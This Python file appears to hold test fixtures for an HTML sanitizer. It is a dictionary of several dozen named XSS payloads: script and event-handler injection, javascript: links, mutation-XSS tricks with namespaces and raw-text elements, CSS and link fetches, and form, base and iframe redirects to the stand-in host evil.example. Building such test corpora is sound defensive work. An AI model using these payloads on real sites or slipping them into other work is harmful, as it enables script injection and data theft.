"""HTML that tries to run, to fetch or to get out: our own samples, by what they try.

Whatever runs sets `window.pwned`; whatever fetches asks evil.example.
"""

RUN = "window.pwned=1"
EVIL = "http://evil.example"

SAMPLES: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script in capitals with a gap": f"<ScRiPt\t>{RUN}</sCrIpT\n>",
    "script from outside": f'<script src="{EVIL}/x.js"></script>',
    "script within script": f"<scr<script></script>ipt>{RUN}</script>",
    "unclosed script": f"<script>{RUN}",
    "handler": f"<img src=x onerror={RUN}>",
    "handler with a slash": f"<img/src=x/onerror={RUN}//>",
    "handler with a NUL": f"<img src=x on\0error={RUN}>",
    "handler with a form feed": f"<img\x0csrc=x\x0conerror={RUN}>",
    "handlers that need nobody": (
        f"<body onload={RUN}><details open ontoggle={RUN}><p>x</p></details>"
        f"<video autoplay onloadstart={RUN}><source onerror={RUN}></video><marquee onstart={RUN}>x</marquee>"
        f"<input autofocus onfocus={RUN}><div onanimationstart={RUN} style='animation: x 1s'>x</div>"
    ),
    "javascript link": f'<a href="javascript:{RUN}">x</a>',
    "javascript link with entities": f'<a href="&#106;&#x61;vascript&colon;{RUN}">x</a>',
    "javascript link with white space": f'<a href=" \x01java\tscript\n:{RUN}">x</a>',
    "vbscript and data links": '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>',
    "other schemes": '<a href="file:///etc/passwd">x</a><a href="ms-msdt:/id">y</a><a href="blob:x">z</a>',
    "relative links": '<a href="/sign-out">x</a><a href="//evil.example/">y</a><a href="?a=b">z</a>',
    "javascript picture": f'<img src="javascript:{RUN}"><table background="javascript:{RUN}"><tr><td>x</table>',
    "drawing": f"<svg onload={RUN}><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    "drawing that animates": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "drawing as data": "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22x%22/>'>",
    "drawing as data, encoded": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9eD4=">',
    "formula": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "mutation by namespace": f'<svg></p><style><a title="</style><img src=1 onerror={RUN}>">',
    "mutation by form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation by template": f"<template><style></template><img src=x onerror={RUN}></style></template>",
    "mutation by textarea": f'<textarea><img title="</textarea><img src=x onerror={RUN}>"></textarea>',
    "mutation by title": f'<title><img title="</title><img src=x onerror={RUN}>"></title>',
    "mutation by comment": f"<!--><img src=x onerror={RUN}>--> <!--!> <img src=x onerror={RUN}> -->",
    "mutation by cdata": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "mutation by xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    "mutation by plaintext": f"<plaintext><img src=x onerror={RUN}>",
    "mutation by select": f'<select><template><style><!--</style><a rel="--><img src=x onerror={RUN}>"></select>',
    "mutation by table": f"<table><a id=x><style><a title='</style><img src=x onerror={RUN}>'></table>",
    "quotes that never close": f"<a href=\"x' title='><img src=x onerror={RUN}>\">",
    "backquotes": f"<img alt=`><img src=x onerror={RUN}>`>",
    "style with expression": f'<p style="width: expression({RUN}); behavior: url({EVIL}/x.htc)">x</p>',
    "style that fetches": f"<p style=\"background: url({EVIL}/a); list-style-image: url('{EVIL}/b')\">x</p>",
    "style that fetches, escaped": (
        f'<p style="background: u\\72l({EVIL}/a); background-image: \\75\\72\\6C({EVIL}/b)">x</p>'
    ),
    "style that fetches, other words": (
        f"<p style=\"background: image-set('{EVIL}/a' 1x); background-image: -webkit-image-set(url({EVIL}/b) 1x);"
        f' content: url({EVIL}/c); cursor: url({EVIL}/d), auto; mask: url({EVIL}/e); src: url({EVIL}/f)">x</p>'
    ),
    "style sheet": (
        f"<style>@import url({EVIL}/a); @font-face {{ font-family: x; src: url({EVIL}/b) }} p {{ "
        f"background: url({EVIL}/c) }}</style><p>x</p>"
    ),
    "style sheet breaks out": f"<style></style><img src=x onerror={RUN}></style><p style='color: red\">'>x</p>",
    "style breaks out of its attribute": f"<p style='font-family: \"</style><img src=x onerror={RUN}>\"'>x</p>",
    "style with a comment": f'<p style="background: url/**/({EVIL}/a); color: red/* ;background:url({EVIL}/b)*/">x</p>',
    "style as a vendor has it": f'<p style="-moz-binding: url({EVIL}/x.xml#x)">x</p>',
    "linked sheet": (
        f'<link rel=stylesheet href="{EVIL}/x.css"><link rel=prefetch href="{EVIL}/p"><link rel=icon href="{EVIL}/i">'
    ),
    "refresh": f'<meta http-equiv=refresh content="0; url={EVIL}/"><meta http-equiv=refresh content="0; javascript:x">',
    "own policy": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "base": f'<base href="{EVIL}/"><a href="x">x</a><img src="y">',
    "form": (
        f'<form action="{EVIL}/" method=post><input name=password>'
        f'<button formaction="javascript:{RUN}">x</button></form>'
    ),
    "frames": (
        f'<iframe src="{EVIL}/"></iframe><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>'
        f'<frameset><frame src="{EVIL}/"></frameset>'
    ),
    "objects": (
        f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/y"><applet code=x archive="{EVIL}/z"></applet>'
    ),
    "media": (
        f'<video src="{EVIL}/v" poster="{EVIL}/p"></video><audio src="{EVIL}/a"></audio><picture>'
        f'<source srcset="{EVIL}/s"><img srcset="{EVIL}/t 2x"></picture>'
    ),
    "pictures from outside": (
        f'<img src="{EVIL}/a"><img src="//evil.example/b"><img src="hTTp://evil.example/c">'
        f'<table background="{EVIL}/d"><tr><td background="{EVIL}/e">x</table>'
    ),
    "pictures with odd addresses": (
        f'<img src="\\\\evil.example\\a"><img src="http:\\\\evil.example/b"><img src=" {EVIL}/c">'
        '<img src="ht\ntp://evil.example/d">'
    ),
    "names that hide ours": (
        '<img name=cookie><form id=location></form><a id=document name=body>x</a><p class="app note">y</p>'
    ),
    "ping and target": f'<a href="https://ok.example/" ping="{EVIL}/" target=_top rel=opener download>x</a>',
    "import and portal": f'<link rel=import href="{EVIL}/"><portal src="{EVIL}/"></portal><isindex action="{EVIL}/">',
    "processing instruction": (
        f"<?xml-stylesheet href=\"javascript:{RUN}\"?><?php x ?><!DOCTYPE x [<!ENTITY y SYSTEM '{EVIL}/'>]>&y;"
    ),
    "conditional comment": (
        f"<!--[if gte mso 9]><script>{RUN}</script><![endif]--><!--[if !mso]><!--><p>x</p><!--<![endif]-->"
    ),
    "custom elements": f"<x-y onclick={RUN}><slot onslotchange={RUN}></slot></x-y><o:p>&nbsp;</o:p>",
    "right to left": "\u202e<a href='https://ok.example/'>moc.elpmaxe</a>\u202c",
    "encoded twice": f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;img src=x onerror={RUN}&amp;gt;",
    "lone surrogates": "\ud800<b>\udfff</b>",
}
